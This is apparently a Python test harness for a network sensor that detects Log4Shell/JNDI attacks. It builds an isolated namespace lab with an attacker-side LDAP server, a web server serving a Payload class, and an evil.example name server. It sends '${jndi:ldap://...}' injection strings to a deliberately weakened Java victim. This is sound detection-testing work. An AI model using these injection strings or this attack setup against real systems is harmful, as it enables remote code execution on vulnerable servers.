# SPDX-License-Identifier: GPL-2.0-or-later
"""A small network of name spaces with real programs in it, and the sensor at its span port. For the tests beside it.

    atk  e0 10.99.0.1/24 (and .101 to .116) --\\
                                               br0 in sw, both ports mirrored --> e0 in sen, no address
    vic  e0 10.99.0.2/24 ---------------------/

enter() starts the test again inside name spaces of its own for networks, mounts and processes. What it starts lives and
dies there, its files lie in a file system in memory: nothing outlives it, however it ends. Without root a user name
space does. Where something is missing the test says what, and is skipped.
"""
import ctypes
import fcntl
import hashlib
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import time
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
TOP = HERE.parent.parent
sys.path.append(str(HERE.parent / "replay"))
from sensor import SKIPPED, differences, facts  # noqa: E402

ATTACKER, VICTIM = "10.99.0.1", "10.99.0.2"
SOURCES = ["10.99.0.%d" % n for n in range(101, 117)]  # more addresses of the attacker
WORK = pathlib.Path("/run/lab")
PATIENCE = 90  # seconds until a condition counts as failed: only a test that fails waits for so long
JARS = ["/usr/share/java/log4j-core.jar", "/usr/share/java/log4j-api.jar"]
JAVA = ["-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC", "-Xshare:auto", "-Xmx128m"]
RMI = ["--add-modules", "jdk.naming.rmi", "--add-exports", "jdk.naming.rmi/com.sun.jndi.rmi.registry=ALL-UNNAMED"]
TRUST = ["-Dcom.sun.jndi.%s=true" % what for what in (
    "ldap.object.trustURLCodebase", "rmi.object.trustURLCodebase", "ldap.object.trustSerialData")]


def skip(reason):
    print("skipped, lab test: " + reason)
    sys.exit(SKIPPED)


def need(*programs):
    for program in programs:
        if not shutil.which(program, path=os.environ["PATH"] + ":/usr/sbin:/sbin"):
            skip("%s is not installed" % program)


def need_java():
    need("java", "javac")
    for jar in JARS:
        if not os.path.exists(jar):
            skip("%s is missing (Debian package liblog4j2-java)" % jar)


def enter(*programs):
    """Call first. programs: what the test cannot do without."""
    need("unshare", "nsenter", "ip", "tc", "mount", *programs)
    os.environ["PATH"] += ":/usr/sbin:/sbin"
    if os.environ.get("JNDI_LAB_INSIDE"):
        mount_work()
        return
    spaces = ["unshare", "--net", "--mount", "--pid", "--fork", "--kill-child", "--mount-proc"]
    if os.getuid() != 0:
        spaces[1:1] = ["--user", "--map-root-user"]
    probe = subprocess.run(spaces + ["sh", "-c", "mount -t tmpfs lab /run && ip link add a0 type veth peer name b0"],
                           capture_output=True, text=True)
    if probe.returncode != 0:
        skip("no private network to be had: " + (probe.stderr.strip() or "no reason given"))
    inside = subprocess.Popen(spaces + [sys.executable] + sys.argv, preexec_fn=die_with_parent,
                              env={**os.environ, "JNDI_LAB_INSIDE": "1"})
    sys.exit(inside.wait())


def die_with_parent():
    ctypes.CDLL(None).prctl(1, signal.SIGKILL)


def mount_work():
    """Everything that is written; and names are asked of the attacker's server."""
    resolver = os.path.realpath("/etc/resolv.conf")
    subprocess.run(["mount", "-t", "tmpfs", "lab", "/run"], check=True)
    WORK.mkdir()
    WORK.chmod(0o755)
    (WORK / "resolv.conf").write_text("nameserver %s\noptions timeout:1 attempts:1\n" % ATTACKER)
    if not os.path.exists(resolver):  # it lay in /run
        os.makedirs(os.path.dirname(resolver), exist_ok=True)
        open(resolver, "w").close()
    subprocess.run(["mount", "--bind", WORK / "resolv.conf", resolver], check=True)


def until(what, condition, seconds=PATIENCE):
    """What condition gives once it is true; asked again and again."""
    end = time.monotonic() + seconds
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > end:
            raise AssertionError("waited in vain for: " + what)
        time.sleep(0.01)


def inside(space, command):
    return ["nsenter", "--net=/run/netns/" + space, *map(str, command)]


def run(space, *command, check=True, **how):
    """Runs to the end, and gives what it wrote."""
    done = subprocess.run(inside(space, command), capture_output=True, text=True, timeout=PATIENCE, **how)
    if check and done.returncode != 0:
        raise AssertionError("%s: status %d\n%s" % (" ".join(map(str, command)), done.returncode, done.stdout + done.stderr))
    return done.stdout


def start(space, *command, **how):
    """Runs beside the test; its words go to a file of its name."""
    log = open(WORK / (os.path.basename(str(command[0])) + ".log"), "a")
    return subprocess.Popen(inside(space, command), **{"stdin": subprocess.DEVNULL, "stdout": log, "stderr": log, **how})


def ip(space, words):
    subprocess.run(["ip", "-n", space, *words.split()], check=True, capture_output=True, text=True)


def quiet(space, device):
    """Frames as they are on a wire: no checksums left to hardware, none longer than the MTU, no chatter."""
    run(space, "sysctl", "-qw", "net.ipv6.conf.%s.disable_ipv6=1" % device, check=False)
    if shutil.which("ethtool"):
        run(space, "ethtool", "-K", device, *"tx off rx off tso off gso off gro off".split(), check=False)


def build_network():
    for space in ("atk", "vic", "sen", "sw"):
        subprocess.run(["ip", "netns", "add", space], check=True)
        ip(space, "link set lo up")
    ip("sw", "link add br0 type bridge stp_state 0 mcast_snooping 0")
    for space in ("atk", "vic", "sen"):
        ip("sw", "link add %s type veth peer name e0 netns %s" % (space, space))
        quiet("sw", space)
        quiet(space, "e0")
        if space == "sen":
            ip("sen", "link set e0 arp off")
        else:
            ip("sw", "link set %s master br0" % space)
        ip("sw", "link set %s up" % space)
        ip(space, "link set e0 up")
    for address in [ATTACKER] + SOURCES:
        ip("atk", "addr add %s/24 dev e0" % address)
    ip("vic", "addr add %s/24 dev e0" % VICTIM)
    ip("sw", "link set br0 up")
    for port in ("atk", "vic"):
        subprocess.run(["tc", "-n", "sw", "qdisc", "add", "dev", port, "handle", "ffff:", "ingress"], check=True)
    mirror_to("sen")


def mirror_to(device):
    """All that comes in through either port of the bridge, once: a span port."""
    for port in ("atk", "vic"):
        rest = "action mirred egress mirror dev " + device
        subprocess.run(["tc", "-n", "sw", "filter", "del", "dev", port, "parent", "ffff:"], capture_output=True)
        for match in ("u32 match u32 0 0", "matchall"):  # a kernel may lack either
            filtered = subprocess.run(("tc -n sw filter add dev %s parent ffff: protocol all %s %s" % (port, match, rest)).split(),
                                      capture_output=True, text=True)
            if filtered.returncode == 0:
                break
        else:
            skip("no mirroring here: " + filtered.stderr.strip())


def mirror_through_vxlan():
    """As clouds do: every frame inside UDP to the sensor's host, where nobody listens at that port."""
    for space, device in (("sw", "sen"), ("sen", "e0")):
        ip(space, "link set %s mtu 1600" % device)
        ip(space, "addr add 10.98.0.%d/24 dev %s" % (1 if space == "sw" else 2, device))
    ip("sen", "link set e0 arp on")
    ip("sw", "link add vx0 type vxlan id 99 local 10.98.0.1 remote 10.98.0.2 dstport 4789")
    quiet("sw", "vx0")
    ip("sw", "link set vx0 up")
    mirror_to("vx0")


def frames_at_span():
    """All that ever passed the sensor's interface."""
    link = json.loads(subprocess.run(["ip", "-n", "sen", "-s", "-j", "link", "show", "e0"], check=True, capture_output=True).stdout)
    stats = link[0].get("stats64") or link[0]["stats"]
    return stats["rx"]["packets"] + stats["tx"]["packets"]


def listening(space, *ports):
    """Do servers listen at these TCP ports?"""
    table = run(space, "cat", "/proc/net/tcp", "/proc/net/tcp6", check=False)
    rows = [line.split() for line in table.splitlines()]
    found = {int(row[1].rsplit(":", 1)[1], 16) for row in rows if len(row) > 3 and row[3] == "0A"}
    return set(ports) <= found


class Sensor:
    """The sensor at the span port."""

    def __init__(self, program, settings="", *options, wait=True, home=VICTIM + "/32"):
        self.log = WORK / ("sensor-%d" % time.monotonic_ns())
        self.log.mkdir()
        self.log.chmod(0o777)
        (self.log / "sensor.yaml").write_text("vars: {address-groups: {HOME_NET: \"[%s]\"}}\n%s\n" % (home, settings))
        self.frames_before = frames_at_span()
        self.said = open(self.log / "stderr", "w+")
        self.process = subprocess.Popen(
            inside("sen", [program, "-i", "e0", "-c", self.log / "sensor.yaml", "-S", TOP / "rules/jndi.rules", "-l", self.log, *options]),
            stdin=subprocess.DEVNULL, stdout=self.said, stderr=self.said)
        if wait:
            self.wait_ready()

    def wait_ready(self):
        until("the sensor's start", lambda: self.words("watching") or self.process.poll() is not None)
        assert self.process.poll() is None, "the sensor did not start:\n" + self.words()

    def words(self, needle=None):
        text = (self.log / "stderr").read_text(errors="replace")
        return text if needle is None else needle in text

    def workers(self):
        return [int(pid) for pid in pathlib.Path("/proc/%d/task/%d/children" % (self.process.pid, self.process.pid)).read_text().split()]

    def events(self):
        try:
            lines = (self.log / "eve.json").read_text().splitlines(keepends=True)
        except FileNotFoundError:
            return []
        return [json.loads(line) for line in lines if line.endswith("\n")]

    def alerts(self):
        return [event for event in self.events() if event["event_type"] == "alert"]

    def lookups(self):
        return [facts(alert).get("lookup", "") for alert in self.alerts()]

    def names(self):
        """The last part of each lookup told so far."""
        return {lookup.rsplit("/", 1)[-1] for lookup in self.lookups()}

    def settled(self):
        """All alerts, once everything that was sent before this call has been judged: lookups of its own tell, one
        from each address, so that there is one for each worker."""
        self.n_marks = getattr(self, "n_marks", 0) + 1
        marks = {"mark-%d-%s" % (self.n_marks, source): source for source in SOURCES}
        for name, source in marks.items():
            send_lookup(source, name)
        until("the lookups sent behind all others", lambda: self.names() >= marks.keys())
        return [alert for alert in self.alerts() if "/mark-" not in facts(alert).get("lookup", "")]

    def counters(self):
        return [event for event in self.events() if event["event_type"] == "stats"][-1]["metadata"]["flowints"]

    def stop(self, status=0, saw_all=True):
        """The counters at the end, after their sum has been proved: of all frames, when it saw all since its start."""
        until("frames at rest", frames_rest)
        sent = frames_at_span() - self.frames_before
        self.process.send_signal(signal.SIGINT)
        try:
            found = self.process.wait(PATIENCE)
        except subprocess.TimeoutExpired:
            raise AssertionError("the sensor does not end") from None
        assert found == status, "exit status %d, not %d:\n%s" % (found, status, self.words())
        count = self.counters()
        parts = [count.get("capture." + name, 0) for name in ("frames", "kernel_drops", "left_behind")]
        assert sum(parts) == count["capture.kernel_packets"], "%s are not the kernel's %d" % (parts, count["capture.kernel_packets"])
        assert sum(parts) == sent or not saw_all, "read, dropped and left behind %s: %d, but %d were sent" % (parts, sum(parts), sent)
        if saw_all:
            print("frames sent %d = read %d + dropped %d + left behind %d" % (sent, *parts))
        return count


def frames_rest():
    before = frames_at_span()
    time.sleep(0.05)
    return frames_at_span() == before


class Space:
    """Sockets made within live in that name space, and are used from anywhere."""

    def __init__(self, name):
        self.name = name

    def __enter__(self):
        self.home = os.open("/proc/self/ns/net", os.O_RDONLY)
        self.set(os.open("/run/netns/" + self.name, os.O_RDONLY))

    def __exit__(self, *_):
        self.set(self.home)

    @staticmethod
    def set(descriptor):
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.setns(descriptor, 0x40000000) != 0:
            raise OSError(ctypes.get_errno(), "setns")
        os.close(descriptor)


def send_lookup(source, name):
    """One datagram of a syslog client."""
    with Space("atk"), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.bind((source, 0))
        out.sendto(("<13>Dec 10 10:00:00 app login: " + lookup_text(name)).encode(), (VICTIM, 514))


def lookup_text(name):
    """Of a server that is not there: incidents at those that are do not begin with it."""
    return "${jndi:ldap://192.0.2.1:1389/%s}" % name


def request(text, source=ATTACKER, port=8080):
    """A page asked of the victim by a client of that name."""
    run("atk", "curl", "-s", "-S", "-o", "/dev/null", "--max-time", PATIENCE, "--interface", source, "-A", text,
        "http://%s:%d/" % (VICTIM, port))


class Load:
    """Frames of a generated capture, put on the sensor's wire until stop() or the capture's end."""

    def __init__(self, capture, device="sen"):
        before = frames_at_span()
        self.process = start("sw", sys.executable, HERE / "load.py", capture, device, stdout=subprocess.PIPE, text=True)
        until("the load's start", lambda: frames_at_span() > before + 1000)

    def stop(self):
        """What it says at the end. To have ended before is a failure: then there was no load."""
        assert self.process.poll() is None, "the load was over too early: " + self.process.communicate()[0]
        self.process.terminate()
        said = self.process.communicate()[0].strip()
        assert self.process.returncode == 0, "the load failed"
        return said


def java_classes(folder):
    """Compiles java/ into folder, unless that has been done."""
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    sources = sorted((HERE / "java").glob("*.java"))
    with open(folder / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        done = folder / "done"
        if not done.exists() or any(source.stat().st_mtime >= done.stat().st_mtime for source in sources):
            compiled = subprocess.run(["javac", *RMI, "-cp", ":".join(JARS), "-d", folder, *sources], capture_output=True, text=True)
            assert compiled.returncode == 0, compiled.stderr
            (folder / "www").mkdir(exist_ok=True)
            for brought in ("Payload.class", "Knock.class"):  # the victim must not have them
                (folder / brought).replace(folder / "www" / brought)
            done.touch()
    return folder


class Program:
    """A Java program of java/ in a name space."""

    def __init__(self, space, classes, *arguments):
        self.name = arguments[0]
        self.process = start(space, "java", *JAVA, *RMI, *TRUST, "-cp", ":".join([str(classes), *JARS]), *arguments,
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def wait_ready(self):
        line = self.process.stdout.readline()
        assert line == "ready\n", "%s did not start: %s\n%s" % (self.name, line, (WORK / "java.log").read_text()[-2000:])

    def ask(self, command):
        """Its one line of answer; the end of the program is the end of the line."""
        self.process.stdin.write(command + "\n")
        self.process.stdin.flush()
        answer = self.process.stdout.readline()
        assert answer, "%s: the victim has died\n%s" % (command, (WORK / "java.log").read_text()[-2000:])
        return answer.strip()


def start_directory():
    """OpenLDAP with directory.ldif in it, in clear and through TLS."""
    (WORK / "directory").mkdir()
    run("atk", "openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj",
        "/CN=ldap.evil.example", "-addext", "subjectAltName=DNS:ldap.evil.example,IP:" + ATTACKER, "-keyout", WORK / "key.pem",
        "-out", WORK / "certificate.pem")
    (WORK / "slapd.conf").write_text((HERE / "slapd.conf").read_text().replace("@WORK@", str(WORK)))
    run("atk", "slapadd", "-f", WORK / "slapd.conf", "-l", HERE / "directory.ldif")
    start("atk", "slapd", "-d", "0", "-f", WORK / "slapd.conf", "-h",
          " ".join("%s://%s:%d/" % (scheme, ATTACKER, port) for scheme, port in (("ldap", 389), ("ldap", 1389), ("ldaps", 1636))))


def start_web(classes):
    """Python's web server with the payload's class, alone and in a JAR, and something harmless."""
    folder = WORK / "www"
    shutil.copytree(classes / "www", folder)
    (folder / "index.txt").write_text("all is well\n")
    with zipfile.ZipFile(folder / "payload.jar", "w", zipfile.ZIP_DEFLATED) as jar:
        jar.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n\n")
        jar.write(folder / "Payload.class", "Payload.class")
    for served, expected in (("Payload.class", FETCHED), ("payload.jar", FETCHED_JAR)):
        expected["sha256"] = hashlib.sha256((folder / served).read_bytes()).hexdigest()
    start("atk", sys.executable, "-m", "http.server", "8000", "--bind", ATTACKER, "-d", folder)


def start_names():
    """dnsmasq, which knows evil.example and gives a text for text.evil.example. -d: no other user is become."""
    start("atk", "dnsmasq", "-d", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--pid-file=",
          "--bind-interfaces", "--listen-address=" + ATTACKER, "--address=/evil.example/" + ATTACKER,
          "--txt-record=text.evil.example,greetings")


class Peers:
    """Servers of the attacker, and the victim, ready."""

    def __init__(self, classes, registry=False, names=False):
        classes = java_classes(classes)
        start_directory()
        start_web(classes)
        self.victim = Program("vic", classes, "Victim", "8080", WORK / "certificate.pem")
        if registry:
            self.registry = Program("atk", classes, "Registry", ATTACKER, "1099", "http://%s:8000/" % ATTACKER)
            self.registry.wait_ready()
        if names:
            start_names()
            until("the name server", lambda: listening("atk", 53))
        self.victim.wait_ready()
        until("the servers", lambda: listening("atk", 389, 1389, 1636, 8000))


def play(sensor, victim, table):
    """Rows of (what is done, how the victim's answer begins, the alerts): a text with ${ is sent to the victim's web
    application, anything else is a command for it."""
    n_before = len(sensor.settled())
    for what, answer, expected in table:
        if "${" in what:
            request(what)
        else:
            found = victim.ask(what)
            assert found.startswith(answer), "%s: answered with %s" % (what, found)
        alerts = sensor.settled()
        try:
            once(alerts[n_before:], *expected)
        except AssertionError as e:
            raise AssertionError("%s: %s" % (what, e)) from None
        print("%s: %s" % (what, ", ".join(facts(alert)["stage"] for alert in alerts[n_before:]) or "nothing"))
        n_before = len(alerts)


def once(alerts, *expected):
    """Each of expected, a part of context.jndi, is told by one alert and no more; there is no alert above policy level
    that is not expected, and none twice."""
    matched = set()
    for part in expected:
        hits = [i for i, alert in enumerate(alerts) if not differences(part, facts(alert), "")]
        assert len(hits) == 1, "%d alerts of %s, among\n%s" % (len(hits), part, listing(alerts))
        matched.update(hits)
    loud = [alert for i, alert in enumerate(alerts) if i not in matched and alert["alert"]["severity"] < 3]
    assert not loud, "not expected:\n" + listing(loud)
    keys = [(a["flow_id"], a["alert"]["signature_id"], a.get("tx_id"), json.dumps(facts(a), sort_keys=True)) for a in alerts]
    assert len(keys) == len(set(keys)), "an alert twice\n" + listing(alerts)


def listing(alerts):
    return "\n".join("  %s -> %s severity %d %s %s" % (
        alert["src_ip"], alert["dest_ip"], alert["alert"]["severity"], alert["alert"]["signature"], json.dumps(facts(alert)))
        for alert in alerts)


# What the steps of attacks look like with the servers above, as parts of context.jndi.
WEB = "http://%s:8000/" % ATTACKER
FETCHED = {"stage": "class_delivery", "content": "class", "java_client": True, "fetch": "delivered", "classes": {"has": ["Payload"]}}
FETCHED_JAR = {"stage": "class_delivery", "java_client": True}  # sha256 is added to both by start_web


def lookup_of(name, **more):
    return {"stage": "lookup", "lookup": name, "effective": True, **more}


def searched(entry, port=1389, client="jndi"):
    return {"stage": "callback", "scheme": "ldap", "host": ATTACKER, "port": port,
            "ldap": {"request_operation": "search_request", "client": client, "request_dn": entry}}


def reference(scheme="ldap", **more):
    return {"stage": "reference", "scheme": scheme, "host": ATTACKER, "codebase": WEB, "factory": "Payload",
            "classes": {"has": ["Payload"]}, **more}


def local_reference(scheme="ldap"):
    """To a factory that the victim has itself."""
    return {"stage": "reference", "scheme": scheme, "host": ATTACKER, "codebase": None,
            "factory": "org.apache.naming.factory.BeanFactory", "classes": {"has": ["javax.el.ELProcessor"]}}


def serialized(scheme, *classes):
    return {"stage": "deserialization", "scheme": scheme, "host": ATTACKER, "content": "serialized", "classes": {"has": list(classes)}}
